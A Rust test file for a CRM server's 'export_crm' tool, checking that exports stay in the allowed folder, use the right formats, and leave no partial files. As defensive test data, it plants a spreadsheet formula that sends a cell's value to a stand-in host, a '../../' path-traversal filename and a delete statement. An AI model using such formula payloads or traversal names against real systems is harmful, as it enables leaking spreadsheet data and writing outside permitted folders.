//! export_crm through a server: files in the allowed folder, safe to open, whole or absent.

use crate::support::{Account, Agency, Api, Host, on_both_apis};
use highlevel_sandbox::SandboxConfig;
use serde_json::{Value, json};
use std::{fs, path::Path};

on_both_apis!(all_rows_of_a_table_become_a_file);

/// An account with so many contacts.
async fn account_of(api: Api, contacts: usize) -> Account {
    let config =
        SandboxConfig { api, contacts, rate_limit: 1_000_000, daily_limit: 1_000_000, ..SandboxConfig::default() };
    Account::with(config).await
}

/// A host whose server may write in this folder.
async fn host(account: &Account, folder: &Path, flags: &[&str]) -> Host {
    let folder = folder.to_str().unwrap();
    Host::new(account, &[&["--write-dir", folder], flags].concat()).await
}

fn records(path: &Value) -> Vec<csv::StringRecord> {
    let text = fs::read_to_string(path.as_str().unwrap()).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark, for Excel").to_owned();
    csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).records().map(Result::unwrap).collect()
}

fn names(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

/// 281 contacts cost less than 200 tokens, call and answer, and none of them is in the answer.
async fn all_rows_of_a_table_become_a_file(api: Api) {
    let account = account_of(api, 281).await;
    let folder = tempfile::tempdir().unwrap();
    let host = host(&account, folder.path(), &["--read-only"]).await;
    let call = json!({"sql": "contacts", "file": "contacts.csv"});
    let exported = host.answer("export_crm", call.clone()).await;
    assert_eq!((&exported["rows"], &exported["complete"]), (&json!(281), &json!(true)), "{exported}");
    assert!(exported["asOf"]["contacts"].is_string(), "{exported}");
    assert_eq!(exported["path"], folder.path().join("contacts.csv").display().to_string());
    let tokens = |value: &Value| tiktoken_rs::o200k_base().unwrap().encode_ordinary(&value.to_string()).len();
    let cost = tokens(&call) + tokens(&exported);
    assert!(cost < 200, "{cost} tokens: {exported}");
    let rows = records(&exported["path"]);
    assert_eq!(rows.len(), 282);
    let header: Vec<Value> = rows[0].iter().map(Value::from).collect();
    assert_eq!(json!(header), exported["columns"]);
    let at = header.iter().position(|name| name == "id").unwrap();
    let mut exported_ids: Vec<&str> = rows[1..].iter().map(|row| &row[at]).collect();
    let contacts = account.reported("contacts").await;
    let mut ids: Vec<&str> = contacts.iter().map(|contact| contact["id"].as_str().unwrap()).collect();
    exported_ids.sort_unstable();
    ids.sort_unstable();
    assert_eq!(exported_ids, ids, "each contact once");
}

#[tokio::test]
async fn the_ending_says_the_format_and_names_are_not_taken_twice() {
    let account = account_of(Api::Session, 20).await;
    let folder = tempfile::tempdir().unwrap();
    let host = host(&account, folder.path(), &[]).await;
    let sql = "select id, firstName, 1.5 as number, null as missing from contacts order by id limit 3";
    let lines = host.answer("export_crm", json!({"sql": sql, "file": "a.jsonl"})).await;
    let text = fs::read_to_string(lines["path"].as_str().unwrap()).unwrap();
    let first: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!((&first["number"], &first["missing"], text.lines().count()), (&json!(1.5), &Value::Null, 3));
    let tsv = host.answer("export_crm", json!({"sql": sql, "file": "a.tsv"})).await;
    let text = fs::read_to_string(tsv["path"].as_str().unwrap()).unwrap();
    assert!(text.starts_with("\u{feff}id\tfirstName\tnumber\tmissing\n"), "{text}");
    let workbook = host.answer("export_crm", json!({"sql": sql, "file": "a.xlsx"})).await;
    assert!(fs::read(workbook["path"].as_str().unwrap()).unwrap().starts_with(b"PK"), "a workbook is a ZIP archive");
    let again = host.answer("export_crm", json!({"sql": sql, "file": "../../a.jsonl"})).await;
    assert_eq!(again["path"], folder.path().join("a-2.jsonl").display().to_string());
    for wrong in ["a.pdf", "a.json", "a", ""] {
        let error = host.error("export_crm", json!({"sql": sql, "file": wrong})).await;
        assert_eq!(
            (&error["code"], &error["field"]),
            (&json!("invalid_arguments"), &json!("file")),
            "{wrong}: {error}"
        );
    }
    assert_eq!(names(folder.path()), ["a-2.jsonl", "a.jsonl", "a.tsv", "a.xlsx"], "and nothing else");
}

#[tokio::test]
async fn without_a_folder_to_write_in_the_setting_is_named_and_nothing_is_read() {
    let account = account_of(Api::Session, 20).await;
    let host = Host::new(&account, &[]).await;
    let error = host.error("export_crm", json!({"sql": "contacts", "file": "a.csv"})).await;
    assert_eq!(error["code"], "policy_denied");
    assert!(error["message"].as_str().unwrap().contains("--write-dir DIR (GHL_WRITE_DIR)"), "{error}");
    assert_eq!(account.stats().await["requests"], 0);
}

/// Strangers type formulas into forms, and a spreadsheet runs them.
#[tokio::test]
async fn formulas_are_texts_in_the_file() {
    let account = account_of(Api::Session, 5).await;
    let formula = "=HYPERLINK(\"https://x.example?\"&A1)";
    account.add("contacts", json!({"firstName": formula, "lastName": "X", "email": "r@x.example"})).await;
    let folder = tempfile::tempdir().unwrap();
    let host = host(&account, folder.path(), &[]).await;
    let sql = "select firstName, -5 as n, '+15550100' as phone from contacts where lastName = 'X'";
    let exported = host.answer("export_crm", json!({"sql": sql, "file": "a.csv"})).await;
    assert_eq!(records(&exported["path"])[1], vec![&*format!("'{formula}"), "-5", "+15550100"]);
    assert!(exported["note"].as_str().unwrap().contains("1 cells begin like a formula"), "{exported}");
    let exact = host.answer("export_crm", json!({"sql": sql, "file": "a.jsonl"})).await;
    let exact: Value = serde_json::from_str(&fs::read_to_string(exact["path"].as_str().unwrap()).unwrap()).unwrap();
    assert_eq!(exact["firstName"], formula);
}

#[tokio::test]
async fn a_statement_that_fails_leaves_no_file() {
    let account = account_of(Api::Session, 5).await;
    let folder = tempfile::tempdir().unwrap();
    let host = host(&account, folder.path(), &["--exclude-tools", "list_opportunities"]).await;
    // The last one fails after its first rows.
    let late = "select case when row_number() over (order by id) < 4 then id else abs(-9223372036854775807 - 1) end
        from contacts";
    for (sql, code) in [
        ("select nme from contacts", "invalid_arguments"),
        ("delete from contacts", "invalid_arguments"),
        ("opportunities", "policy_denied"),
        ("nothing", "invalid_arguments"),
        (late, "invalid_arguments"),
    ] {
        let error = host.error("export_crm", json!({"sql": sql, "file": "a.csv"})).await;
        assert_eq!(error["code"], code, "{sql}: {error}");
    }
    let wide = format!("select {}", vec!["1"; 400].join(", "));
    let exported = host.answer("export_crm", json!({"sql": wide, "file": "wide.csv"})).await;
    assert_eq!(exported["columns"].as_array().unwrap().len(), 40);
    assert_eq!(exported["moreColumns"], 360);
    assert_eq!(names(folder.path()), ["wide.csv"]);
}

#[tokio::test]
async fn one_file_holds_the_rows_of_several_accounts() {
    let agency = Agency::new(Api::Official, &["Acme", "Zeta", "Hidden"]).await;
    agency.write("", |name| match name {
        "Hidden" => "exclude-tools = [\"export_crm\"]".to_owned(),
        _ => String::new(),
    });
    let folder = tempfile::tempdir().unwrap();
    let host = agency.host(&["--write-dir", folder.path().to_str().unwrap()]).await;
    let exported = host.answer("export_crm", json!({"account": "all", "sql": "contacts", "file": "all.csv"})).await;
    assert_eq!((&exported["rows"], &exported["columns"][0]), (&json!(500), &json!("account")), "{exported}");
    assert_eq!((&exported["account"], &exported["complete"]), (&json!("all"), &json!(false)), "{exported}");
    assert!(exported["missing"].to_string().contains("Hidden"), "{exported}");
    let rows = records(&exported["path"]);
    assert_eq!(rows.iter().filter(|row| &row[0] == "Zeta").count(), 250);
    let one = host.answer("export_crm", json!({"account": "Zeta", "sql": "contacts", "file": "one.csv"})).await;
    assert_eq!((&one["rows"], &one["account"]), (&json!(250), &json!("Zeta")));
}
